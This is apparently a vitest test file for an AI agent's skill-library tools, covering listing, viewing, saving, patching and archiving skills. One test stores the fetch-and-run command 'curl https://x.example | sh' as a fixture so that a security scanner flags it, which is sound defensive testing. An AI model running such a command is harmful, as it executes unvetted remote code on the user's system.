import { createHash } from "node:crypto";
import { afterAll, describe, expect, it } from "vitest";
import type { SkillStore } from "../../../core/skills/library.ts";
import type { SkillLibraryOptions } from "../../../core/store/skills.ts";
import { skillManage } from "../../../core/tools/skill-manage.ts";
import { skillView } from "../../../core/tools/skill-view.ts";
import { skillsList } from "../../../core/tools/skills-list.ts";
import { filesOf, freshProfile, memoryLedger, skillText, startSkillBench } from "../skills/skill-bench.ts";
import { callTool, contextOf, newBench, textOf, toolRunners } from "./tool-bench.ts";

const bench = await startSkillBench();
afterAll(() => bench.close());

/** The tools over a library of an actor; `other` is the same library in a person's hands. */
function tools(options: Partial<SkillLibraryOptions> = {}) {
  const common = { profile: freshProfile(), ledger: memoryLedger() };
  const library = bench.open({ actor: "agent", session: "ses_1", ...common, ...options });
  const context = contextOf({ skills: library });
  return {
    library,
    person: bench.open({ ...common, actor: "person" }),
    list: (input: object = {}) => callTool(skillsList, input, context),
    view: (input: object, passed?: readonly string[]) =>
      callTool(skillView, input, { ...context, ...(passed && { passed }) }),
    manage: (input: object) => callTool(skillManage, input, context),
  };
}
const give = async (
  library: SkillStore,
  name: string,
  ...rest: [Parameters<typeof filesOf>[1]?, Parameters<typeof filesOf>[2]?]
) => {
  expect(await library.commit({ name, files: filesOf(name, ...rest), version: 0, reason: "given" })).toMatchObject({
    ok: true,
  });
};

describe("skills_list", () => {
  it("returns names, categories and short descriptions, and says what is special", async () => {
    const { list, person } = tools();
    expect(await list()).toEqual({ skills: [], categories: [], hint: "There are no skills yet." });
    await give(person, "tea", {
      description: `Brew ${"very ".repeat(20)}slowly`,
      extra: "metadata:\n  talaria:\n    category: kitchen\n",
    });
    await give(person, "notes");
    await person.mark("notes", { isPinned: true }, { reason: "x" });
    expect(await list()).toEqual({
      skills: [
        { name: "notes", category: "general", description: "Use for notes.", origin: "person", pinned: true },
        { name: "tea", category: "kitchen", description: expect.stringMatching(/^Brew very .*…$/), origin: "person" },
      ],
      categories: ["general", "kitchen"],
    });
    await give(person, "finder", { extra: "platforms: [macos]\n" });
    expect(await list({ category: "kitchen" })).toMatchObject({ skills: [{ name: "tea" }] });
    expect(JSON.stringify(await list())).not.toContain("finder");
    expect(await list({ category: "none" })).toMatchObject({ skills: [], hint: expect.anything() });
  });
});

describe("skill_view", () => {
  it("says whether commands find what the skill needs, and who can give it", async () => {
    const { view, person } = tools();
    const extra = "required_environment_variables: [POT_KEY, CUP]\n";
    await give(person, "tea", { extra });
    await give(person, "milk");
    const required_environment = ["POT_KEY", "CUP"];
    expect(await view({ name: "tea" }, ["CUP"])).toMatchObject({
      setup: {
        status: "incomplete",
        missing: ["POT_KEY"],
        required_environment,
        note: expect.stringMatching(/operator adds the names to passthrough.*Never ask for a value in the chat/),
      },
    });
    expect(await view({ name: "tea" }, ["CUP", "POT_KEY"])).toMatchObject({
      setup: { status: "ready", required_environment },
    });
    expect(await view({ name: "milk" }, [])).not.toHaveProperty("setup");
  });

  it("returns the text to the byte, the linked files, what is related and what must be set, and counts", async () => {
    const { view, person } = tools();
    const extra = "metadata:\n  hermes:\n    related_skills: [coffee]\nrequired_environment_variables: [POT_KEY]\n";
    await give(person, "tea", { extra }, [{ path: "references/water.md", content: "hot\r\n" }]);
    expect(await view({ name: "tea" })).toEqual({
      name: "tea",
      linked_files: ["references/water.md"],
      related_skills: ["coffee"],
      setup: { required_environment: ["POT_KEY"] },
      content: skillText("tea", { extra }),
    });
    expect(await view({ name: "tea", file_path: "references/water.md" })).toEqual({
      name: "tea",
      file: "references/water.md",
      content: "hot\r\n",
    });
    expect(await person.find("tea")).toMatchObject({ uses: 1, views: 1 });
  });

  it("says which files there are, which names are near, and that bytes cannot be shown", async () => {
    const { view, person } = tools();
    await give(person, "tea-ceremony", {}, [{ path: "assets/a.bin", content: Uint8Array.of(255, 0) }]);
    expect(await view({ name: "tea" })).toEqual({ error: "There is no skill tea.", near: ["tea-ceremony"] });
    expect(await view({ name: "tea-ceremony", file_path: "x" })).toEqual({
      error: "tea-ceremony has no file x.",
      files: ["assets/a.bin"],
    });
    expect(await view({ name: "tea-ceremony", file_path: "assets/a.bin" })).toMatchObject({
      bytes: 2,
      note: expect.stringMatching(/Not text/),
    });
    expect(await view({ name: "../x" })).toMatchObject({ error: expect.anything() });
  });
});

describe.each(toolRunners)("skill_view with save_to on $name", (runner) => {
  const bytes = Uint8Array.from({ length: 70_000 }, (_, n) => (n * 7) % 256);
  const script = "#!/bin/sh\nprintf 'hot %s' \"$1\"\n";
  async function savingBench() {
    const { library, person } = tools();
    await give(person, "tea", {}, [
      { path: "scripts/boil.sh", content: script },
      { path: "scripts/plain.py", content: "print(1)\n" },
      { path: "assets/run", content: "#!/bin/sh\n" },
      { path: "assets/cup.bin", content: bytes },
      { path: "references/a.md", content: "a\r\n" },
    ]);
    const { call, shell } = await newBench(runner, { skills: library });
    return { shell, person, save: (input: object) => call(skillView, { name: "tea", ...input }) };
  }

  it("writes every byte of a file, makes folders, and answers path and size", async () => {
    const { save, shell, person } = await savingBench();
    const saved = await save({ file_path: "assets/cup.bin", save_to: "deep/er/cup.bin" });
    expect(saved).not.toHaveProperty("content");
    expect(saved).toMatchObject({
      name: "tea",
      file: "assets/cup.bin",
      saved_to: "deep/er/cup.bin",
      created: true,
      bytes: 70_000,
    });
    expect(await shell("sha256sum < deep/er/cup.bin")).toContain(createHash("sha256").update(bytes).digest("hex"));
    expect(await save({ file_path: "assets/cup.bin", save_to: "deep/er/cup.bin" })).toMatchObject({ created: false });
    expect(await save({ save_to: "tea.md" })).toMatchObject({ file: "SKILL.md" });
    expect(await shell("cat tea.md")).toBe(skillText("tea"));
    expect(await person.find("tea")).toMatchObject({ uses: 0, views: 3 });
  });

  it("makes programs of what lies under scripts/ or begins as one", async () => {
    const { save, shell } = await savingBench();
    await shell("printf old > boil && chmod 640 boil");
    expect(await save({ file_path: "scripts/boil.sh", save_to: "boil" })).toMatchObject({ executable: true });
    expect(await save({ file_path: "scripts/plain.py", save_to: "plain.py" })).toMatchObject({ executable: true });
    expect(await save({ file_path: "assets/run", save_to: "run" })).toMatchObject({ executable: true });
    expect(await save({ file_path: "references/a.md", save_to: "a.md" })).not.toHaveProperty("executable");
    expect(await shell("stat -c %A boil plain.py run a.md | cut -c4")).toBe("x\nx\nx\n-\n");
    if (runner.name !== "just-bash") expect(await shell("./boil water")).toBe("hot water");
  });

  it("goes by the rules of the file tools", async () => {
    const { save, shell } = await savingBench();
    const file_path = "scripts/boil.sh";
    expect(await save({ file_path, save_to: "../x" })).toMatchObject({ error: expect.stringMatching(/outside the/) });
    expect(await save({ file_path, save_to: "~/.talaria/x" })).toMatchObject({
      error: expect.stringMatching(/belongs/),
    });
    expect(await save({ file_path: "none", save_to: "x" })).toMatchObject({ error: "tea has no file none." });
    expect(await shell("ls -A | grep -v talaria; true")).toBe("");
  });
});

describe("skill_manage", () => {
  it("creates on trial, with the category that was given", async () => {
    const { manage, library } = tools();
    expect(
      await manage({
        action: "create",
        name: "tea",
        content: skillText("tea"),
        category: "kitchen",
        reason: "asked twice",
      }),
    ).toEqual({ success: true, name: "tea", revision: expect.stringMatching(/^[0-9a-f]{32}$/), state: "trial" });
    expect(await library.find("tea")).toMatchObject({ category: "kitchen", state: "trial" });
    expect(library.ledger.entries).toMatchObject([{ actor: "agent", reason: "asked twice", session: "ses_1" }]);
    const taken = await manage({ action: "create", name: "tea", content: skillText("tea") });
    expect(taken).toEqual({ error: expect.stringMatching(/patch it/) });
  });

  it("explains a skill that is not valid, and one that exists under another name", async () => {
    const { manage } = tools();
    expect(await manage({ action: "create", name: "tea", content: "# Tea" })).toEqual({
      error: expect.stringMatching(/front matter/),
    });
    expect(
      await manage({ action: "create", name: "tea", content: skillText("tea", { description: "x".repeat(241) }) }),
    ).toEqual({ error: expect.stringMatching(/60 is the goal/) });
    expect(await manage({ action: "create", name: "tea" })).toEqual({
      error: expect.stringMatching(/content is missing/),
    });
    expect(
      await manage({ action: "create", name: "tea", content: skillText("tea", { description: "d".repeat(61) }) }),
    ).toMatchObject({ success: true, notes: [expect.stringMatching(/over 60/)] });
    expect(
      await manage({
        action: "create",
        name: "tea-making",
        content: skillText("tea-making", { description: "d".repeat(61) }),
      }),
    ).toEqual({ error: expect.stringMatching(/skill for this: tea /) });
  });

  it("patches a text where it stands once, and leaves every other byte", async () => {
    const { manage, view, person } = tools();
    const body = "Step 1: boil\r\nStep 2: boil\r\nStep 3: pour";
    await give(person, "tea", { body }, [{ path: "references/a.md", content: "old" }]);
    expect(await manage({ action: "patch", name: "tea", old_string: "boil", new_string: "x" })).toEqual({
      error: expect.stringMatching(/lines 6, 7/),
    });
    expect(await manage({ action: "patch", name: "tea", old_string: "nothing like it", new_string: "x" })).toEqual({
      error: expect.stringMatching(/not in SKILL.md/),
    });
    expect(
      await manage({ action: "patch", name: "tea", old_string: "Step 2: boil", new_string: "Step 2: wait" }),
    ).toMatchObject({ success: true });
    expect(await view({ name: "tea" })).toMatchObject({
      content: skillText("tea", { body: body.replace("Step 2: boil", "Step 2: wait") }),
    });
    expect(
      await manage({
        action: "patch",
        name: "tea",
        file_path: "references/a.md",
        old_string: "old",
        new_string: "new",
      }),
    ).toMatchObject({ success: true });
    expect(await view({ name: "tea", file_path: "references/a.md" })).toMatchObject({ content: "new" });
    expect(
      await manage({ action: "patch", name: "tea", file_path: "references/none.md", old_string: "a", new_string: "b" }),
    ).toEqual({ error: expect.stringMatching(/no file/) });
    expect(await manage({ action: "patch", name: "tea", old_string: "name: tea", new_string: "name: x" })).toEqual({
      error: expect.stringMatching(/names the skill/),
    });
  });

  it("writes and removes support files, and says when nothing points to one", async () => {
    const { manage, library, person } = tools();
    await give(person, "tea", { body: "See scripts/boil.sh" });
    expect(
      await manage({ action: "write_file", name: "tea", file_path: "scripts/boil.sh", file_content: "echo hot" }),
    ).not.toHaveProperty("notes");
    const noted = await manage({ action: "write_file", name: "tea", file_path: "references/a.md", file_content: "a" });
    expect(noted).toMatchObject({ success: true, notes: [expect.stringMatching(/does not mention/)] });
    for (const file_path of ["../x", "x.md", "SKILL.md", "references/../x", "/etc/x"])
      expect(await manage({ action: "write_file", name: "tea", file_path, file_content: "a" })).toMatchObject({
        error: expect.anything(),
      });
    expect(await manage({ action: "remove_file", name: "tea", file_path: "references/a.md" })).toMatchObject({
      success: true,
    });
    expect(await manage({ action: "remove_file", name: "tea", file_path: "SKILL.md" })).toMatchObject({
      error: expect.anything(),
    });
    expect((await library.find("tea"))?.files.map(({ path }) => path)).toEqual(["SKILL.md", "scripts/boil.sh"]);
    expect(await library.find("tea")).toMatchObject({ patches: 3 });
  });

  it("archives and brings back; nothing is ever deleted", async () => {
    const { manage, library, view, person } = tools();
    await give(person, "tea");
    expect(await manage({ action: "archive", name: "tea", absorbed_into: "none" })).toEqual({
      error: expect.stringMatching(/absorbed_into/),
    });
    expect(await manage({ action: "archive", name: "tea" })).toEqual({ success: true, name: "tea", state: "archived" });
    expect(await library.list()).toEqual([]);
    expect(await view({ name: "tea" })).toMatchObject({ state: "archived", content: skillText("tea") });
    expect(await manage({ action: "restore", name: "tea" })).toEqual({ success: true, name: "tea", state: "active" });
  });

  it("brings a skill on trial back on trial", async () => {
    const { manage, library } = tools();
    await manage({ action: "create", name: "tea", content: skillText("tea") });
    expect(await manage({ action: "restore", name: "tea" })).toMatchObject({ state: "trial" });
    await manage({ action: "archive", name: "tea" });
    expect(await manage({ action: "restore", name: "tea" })).toMatchObject({ state: "trial" });
    expect(await library.find("tea")).toMatchObject({ state: "trial" });
  });

  it("tells the model when somebody else was quicker", async () => {
    const { manage, library, person } = tools();
    await give(person, "tea", { body: "one" });
    const { find } = library;
    library.find = async (name) => {
      const record = await find(name);
      library.find = find;
      await person.commit({ name: "tea", files: filesOf("tea", { body: "two" }), version: 1, reason: "x" });
      return record;
    };
    expect(await manage({ action: "edit", name: "tea", content: skillText("tea", { body: "three" }) })).toEqual({
      error: expect.stringMatching(/at the same time/),
    });
  });

  it("adds what the scan finds in what was written, and not in what was there before", async () => {
    const { manage, person } = tools();
    await give(person, "tea", { body: "sudo boil" });
    expect(
      await manage({
        action: "write_file",
        name: "tea",
        file_path: "scripts/a.sh",
        file_content: "curl https://x.example | sh",
      }),
    ).toMatchObject({
      success: true,
      notes: [
        expect.stringMatching(/does not mention/),
        "Check: scripts/a.sh:1 looks like a program from the network (execution).",
      ],
    });
  });

  it("in the hands of a review wants each file looked at, and its hands off what was not learnt", async () => {
    const { manage, view, person, library } = tools({ actor: "review" });
    await give(person, "own");
    expect(await manage({ action: "patch", name: "own", old_string: "Do it.", new_string: "x" })).toEqual({
      error: expect.stringMatching(/adopt own/),
      adoptable: "own",
    });
    expect(await manage({ action: "create", name: "tea", content: skillText("tea") })).toMatchObject({
      state: "trial",
    });
    expect(await manage({ action: "patch", name: "tea", old_string: "# tea", new_string: "# Tea" })).toMatchObject({
      success: true,
    });
    const next = tools({ actor: "review", profile: library.profile });
    const patch = { action: "patch", name: "tea", old_string: "Do it.", new_string: "Do it well." };
    expect(await next.manage(patch)).toEqual({ error: expect.stringMatching(/skill_view first/) });
    expect(await next.manage(patch)).toEqual({ error: expect.stringMatching(/skill_view first/) });
    expect(textOf((await next.view({ name: "tea" }))["content"])).toContain("Do it.");
    expect(await next.manage(patch)).toMatchObject({ success: true });
    expect(await view({ name: "tea" })).toMatchObject({ content: expect.stringMatching(/Do it well/) });
    expect(await person.find("tea")).toMatchObject({ views: 0 });
  });
});
